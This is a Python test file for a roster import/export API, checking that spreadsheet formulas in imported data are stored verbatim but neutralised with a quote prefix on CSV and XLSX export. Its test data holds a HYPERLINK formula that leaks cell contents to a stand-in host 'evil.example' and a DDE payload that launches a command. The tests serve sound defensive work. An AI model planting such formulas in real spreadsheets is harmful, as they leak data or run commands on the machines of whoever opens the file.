"""Spreadsheet formulas from a roster are stored as text and neutralised on every export
(issue 15, item 7): the shared writer (api/spreadsheet.py), the roster export, the template."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from api.roster.parser import TEMPLATE_HEADER
from api.spreadsheet import csv_bytes, neutralise, xlsx_bytes
from tests.support.api import ApiWorld

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"查看")'
DDE = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "out"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("＝1+1", "'＝1+1"),  # full-width, as a Chinese input method types it
        ("-12.5", "-12.5"),  # plain numbers are read as numbers, never run
        ("+8613800000000", "+8613800000000"),
        ("王秀英", "王秀英"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
        (35.36, 35.36),
    ],
)
def test_neutralise_cell(value: str | float | None, out: str | float | None) -> None:
    assert neutralise(value) == out


def test_csv_bytes_neutralises_every_cell() -> None:
    text = csv_bytes(["=h", "b"], [[HYPERLINK, None], ["x", 1.5]]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [["'=h", "b"], ["'" + HYPERLINK, ""],
                                                   ["x", "1.5"]]  # fmt: skip


def test_xlsx_bytes_writes_text_never_formulas() -> None:
    book = load_workbook(io.BytesIO(xlsx_bytes(["名称"], [[HYPERLINK], [DDE], [42]], title="t")))
    sheet = book.active
    assert sheet is not None
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == ["'" + HYPERLINK, "'" + DDE, 42]
    assert [c.data_type for c in cells] == ["s", "s", "n"]  # "f" would be a formula


def roster_with_formulas() -> bytes:
    header = ",".join(TEMPLATE_HEADER)
    cells = dict.fromkeys(TEMPLATE_HEADER, "")
    cells.update({"村/社区": "东村", "类型": "住户", "类别": "独居老人", "地址": "东村1组1号",
                  "住户姓名": HYPERLINK, "备注": DDE, "联系人1姓名": "@SUM(1)",
                  "联系人1关系": "儿子", "联系人1电话": "13800000002"})  # fmt: skip
    row = io.StringIO()
    csv.writer(row).writerow([cells[h] for h in TEMPLATE_HEADER])
    return (header + "\r\n" + row.getvalue()).encode("utf-8")


def test_import_keeps_formulas_verbatim_and_export_neutralises_them(
    api_client: TestClient, api: ApiWorld
) -> None:
    headers = api.headers("operator", org=api.tree().sub_district)
    files = {"file": ("r.csv", roster_with_formulas(), "text/csv")}
    imported = api_client.post("/api/v1/roster/import", headers=headers, files=files)
    assert imported.status_code == 200, imported.text
    [accepted] = imported.json()["accepted"]
    assert sum("spreadsheet formula" in w for w in accepted["warnings"]) == 3
    stored = api.db.execute("SELECT resident_name, notes FROM sites").fetchone()
    assert stored == {"resident_name": HYPERLINK, "notes": DDE}  # the data, as written

    export = api_client.get("/api/v1/roster/export.csv", headers=headers)
    assert export.status_code == 200
    assert export.headers["content-type"] == "text/csv; charset=utf-8"
    header, *rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    assert tuple(header) == TEMPLATE_HEADER
    [row] = rows
    cells = dict(zip(header, row, strict=True))
    assert cells["住户姓名"] == "'" + HYPERLINK
    assert cells["备注"] == "'" + DDE
    assert cells["联系人1姓名"] == "'@SUM(1)"
    assert (cells["地址"], cells["联系人1电话"]) == ("东村1组1号", "13800000002")
    assert not [c for c in row if c.startswith(("=", "+", "-", "@"))]


def test_read_export_roster_other_scope_sees_nothing(api_client: TestClient, api: ApiWorld) -> None:
    tree = api.tree()
    own = api.headers("operator", org=tree.sub_district)
    api_client.post("/api/v1/roster/import", headers=own,
                    files={"file": ("r.csv", roster_with_formulas(), "text/csv")})  # fmt: skip
    other = api.headers("operator", org=tree.other_village)
    rows = api_client.get("/api/v1/roster/export.csv", headers=other).content.decode("utf-8-sig")
    assert rows.count("\r\n") == 1  # the header only
    installer = api.headers("installer", org=tree.sub_district)
    assert api_client.get("/api/v1/roster/export.csv", headers=installer).status_code == 403
